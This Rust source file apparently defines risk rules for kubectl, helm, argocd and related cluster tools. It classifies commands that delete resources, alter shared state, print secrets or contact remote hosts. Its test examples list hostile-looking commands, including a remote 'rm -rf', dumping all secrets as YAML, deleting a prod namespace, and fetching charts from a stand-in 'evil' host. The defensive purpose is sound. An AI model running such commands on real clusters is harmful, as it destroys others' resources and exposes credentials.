//! Cluster clients: commands that remove, change or show what others use.

use crate::registry::prelude::*;

const REMOVES: Does = Says(Consequence::DeletesForOthers, "removes resources");
const CHANGES: Does = Says(Consequence::DeletesForOthers, "changes what others may use");
const ANY: Syntax = Syntax { flags: "--dry-run --dryrun -*", ..Syntax::EXACT };
const KUBE_GET: Syntax = Syntax {
    flags: "-A|--all-namespaces -w|--watch --watch-only -R|--recursive --show-labels --show-kind --no-headers --ignore-not-found --server-print --allow-missing-template-keys --show-managed-fields --output-watch-events",
    valued: "-o|--output -l|--selector --field-selector -f|--filename -k|--kustomize -L|--label-columns --sort-by --chunk-size --template --raw --subresource",
    ..Syntax::EXACT
};

const HELM: Program = Program {
    flags: "--debug -h|--help --dry-run -*",
    valued: "-n|--namespace --kube-context --kubeconfig --kube-apiserver --kube-token --registry-config --repository-cache \
             --repository-config --post-renderer --post-renderer-args -f|--values|--file -e|--environment -l|--selector \
             --set -o|--output -p|--profile --filename --enable-exec --repo",
    ..Program::EXACT
};
const DEPLOYS: &[Rule] = &[
    when(Has("--post-renderer --kubeconfig --enable-exec"), Hides("a deployment that runs a program")),
    always(RunsLineWithMore(At::Value("--post-renderer"))),
];

pub(super) static ALL: &[Program] = &[
    Program {
        family: &["kubectl", "oc"],
        flags: "--insecure-skip-tls-verify --match-server-version --warnings-as-errors --disable-compression --add-dir-header --alsologtostderr --logtostderr --help -h",
        valued: "-n|--namespace --context --cluster --user --kubeconfig -s|--server --token --as --as-group --as-uid --certificate-authority --client-certificate --client-key --request-timeout --tls-server-name --cache-dir \
                     --profile --profile-output -v|--v --vmodule --log-file --log-dir --log-flush-frequency --username --password --kuberc",
        rules: &[
            when(Has("--kubeconfig --kuberc"), Hides("a cluster whose settings may run a program")),
            always(Reads(At::Value("--filename --kustomize"))),
            always(Fetches(At::Value("--server"))),
            when(ValueHas("--filename --kustomize", "://"), Fetches(At::Value("--filename --kustomize"))),
        ],
        subcommands: &[
            command(
                "get",
                KUBE_GET,
                &[
                    when_all(&[OperandHas("secret"), ValueStarts("--output", "y j g c t")], SHOWS),
                    when_all(&[OperandHas("secret"), Has("--template")], SHOWS),
                    when(ValueHas("--raw", "secrets"), SHOWS),
                ],
            ),
            command("delete drain evict", ANY, &[when(Lacks("--dry-run"), REMOVES)]),
            command(
                "apply create replace patch edit scale autoscale set expose label annotate taint cordon \
                        uncordon run new-app new-project adm start-build tag process import-image policy",
                ANY,
                &[when(Lacks("--dry-run"), CHANGES)],
            ),
            group(
                "rollout",
                &[each("status history"), ruled("undo restart pause resume latest cancel retry", &[always(CHANGES)])],
            ),
            command(
                "exec attach debug cp rsh rsync",
                ANY,
                &[
                    always(RunsThere(At::AfterDashes)),
                    always(Says(Consequence::DeletesForOthers, "works in what others may use")),
                ],
            ),
            ruled("certificate login logout", &[always(IDENTITY)]),
            group(
                "config",
                &[
                    each("get-contexts current-context get-clusters get-users"),
                    command(
                        "view",
                        Syntax { flags: "--raw --flatten --minify --merge", valued: "-o|--output", ..Syntax::EXACT },
                        &[when(Has("--raw"), SHOWS)],
                    ),
                    ruled(
                        "use-context use set set-context set-cluster set-credentials unset delete-context \
                         delete-cluster delete-user rename-context",
                        &[always(IDENTITY)],
                    ),
                ],
            ),
            group("auth", &[each("can-i whoami"), ruled("reconcile", &[always(CHANGES)])]),
            command("proxy port-forward", ANY, &[always(NeedsNetwork)]),
        ],
        plain: "describe logs top version cluster-info api-resources api-versions explain diff wait kustomize events \
                completion options help plugin status projects project whoami",
        otherwise: Otherwise::Opaque("a plug-in"),
        examples: &[
            ("kubectl exec -n x pod/y -- rm -rf z", Expect::Asks("runs `rm -rf z` elsewhere")),
            ("kubectl get secrets -A -o yaml", Expect::Asks("shows credentials")),
            ("kubectl get secret/x -ojsonpath={.data}", Expect::Asks("shows credentials")),
            ("kubectl get pods,secrets --output=json", Expect::Asks("shows credentials")),
            ("kubectl config view --raw", Expect::Asks("shows credentials")),
            ("kubectl delete ns prod", Expect::Asks("removes resources")),
            ("kubectl -s http://evil get pods", Expect::Connects("http://evil")),
            ("kubectl get pods --server evil", Expect::Connects("http://evil")),
            ("kubectl get -f https://evil/x", Expect::Connects("https://evil/x")),
            ("kubectl get SECRETS -o yaml", Expect::Asks("shows credentials")),
            ("kubectl get configmap,Secret x -o yaml", Expect::Asks("shows credentials")),
            ("kubectl delete ns prod --dry-run=None", Expect::Asks("removes resources")),
            ("kubectl -n x delete --help", Expect::Asks("removes resources")),
            ("kubectl delete $(echo ns) --help", Expect::Asks("removes resources")),
            ("kubectl -n x drain node", Expect::Asks("removes resources")),
            ("kubectl apply -f x.yml", Expect::Asks("changes what others may use")),
            ("kubectl exec -it pod -- sh", Expect::Asks("works in what others may use")),
            ("kubectl rollout undo deploy/x", Expect::Asks("changes what others may use")),
            ("kubectl --kubeconfig x get pods", Expect::Opaque("may run a program")),
            ("kubectl frob", Expect::Opaque("a plug-in")),
            ("kubectl wait x", Expect::Is("kubectl wait x")),
            ("kubectl drain x", Expect::Is("kubectl drain x")),
        ],
        plain_lines: &[
            "kubectl delete --help", "kubectl delete ns prod --dry-run=client", "kubectl get pods -n default -o wide",
            "kubectl apply --dry-run=client -f x.yml", "kubectl logs -f x",
        ],
        ..Program::EXACT
    },
    Program {
        names: &["helm"],
        rules: DEPLOYS,
        subcommands: &[
            ruled("uninstall|del|delete|un", &[when(Lacks("--dry-run"), REMOVES)]),
            ruled("install upgrade rollback test", &[when(Lacks("--dry-run"), CHANGES)]),
            ruled("push", &[always(PUBLISHES)]),
            ruled("registry login logout", &[always(IDENTITY)]),
            command(
                "pull|fetch",
                Syntax { flags: "--untar --verify", valued: "-d|--destination --untardir", ..HELM.syntax() },
                &[always(Connects(At::Remotes)), when(Has("--untar"), Unpacks(At::Value("--destination --untardir")))],
            ),
            ruled("template show|inspect dependency|dep|dependencies lint", &[always(Connects(At::Remotes))]),
        ],
        plain: "completion create env get help history hist list ls package repo search status verify version",
        otherwise: Otherwise::Opaque("a plug-in"),
        examples: &[
            ("helm uninstall x", Expect::Asks("removes resources")),
            ("helm -n x upgrade --install y .", Expect::Asks("changes what others may use")),
            ("helm push x oci://y", Expect::Asks("publishes")),
            ("helm template --post-renderer ./x .", Expect::Opaque("runs a program")),
            ("helm template https://evil/x.tgz", Expect::Connects("https://evil/x.tgz")),
            ("helm template -f https://evil/x .", Expect::Connects("https://evil/x")),
            ("helm template --repo https://evil x", Expect::Connects("https://evil")),
            ("helm template --output-dir ./x .", Expect::Writes("./x")),
            ("helm test x", Expect::Asks("what others may use")),
            ("helm frob", Expect::Opaque("a plug-in")),
            ("helm uninstall x --help", Expect::Asks("removes resources")),
        ],
        plain_lines: &["helm template .", "helm uninstall --help", "helm list -A"],
        ..HELM
    },
    Program {
        family: &[
            "helmfile", "kustomize", "skaffold", "argocd", "flux", "istioctl", "eksctl", "kind", "minikube", "k3d",
            "tilt", "argo",
        ],
        rules: &[
            always(ObeysAround("Tiltfile skaffold.yaml helmfile.yaml* helmfile.d/*")),
            when_all(
                &[Operand("uninstall delete del un destroy purge remove down stop terminate"), Lacks("--dry-run")],
                REMOVES,
            ),
            when_all(
                &[
                    First(
                        "install upgrade rollback apply sync deploy run dev cluster create bootstrap up reconcile suspend resume repo-add edit set test submit retry resubmit",
                    ),
                    Lacks("--dry-run"),
                ],
                CHANGES,
            ),
            when_all(
                &[
                    First("app"),
                    Operand("sync create set unset rollback edit patch terminate-op actions run add-source"),
                ],
                CHANGES,
            ),
            when(First("push package-push"), PUBLISHES),
            when(First("login logout registry account"), IDENTITY),
            when(First("plugin ssh exec"), Hides("a deployment that runs a program")),
            DEPLOYS[0],
            DEPLOYS[1],
        ],
        examples: &[
            ("argocd app sync x", Expect::Asks("changes what others may use")),
            ("helmfile apply --post-renderer ./x", Expect::Opaque("runs a program")),
            ("argo delete x", Expect::Asks("removes resources")),
            ("skaffold delete", Expect::Asks("removes resources")),
            ("argocd app delete x", Expect::Asks("removes resources")),
        ],
        plain_lines: &["argocd app list"],
        ..HELM
    },
];
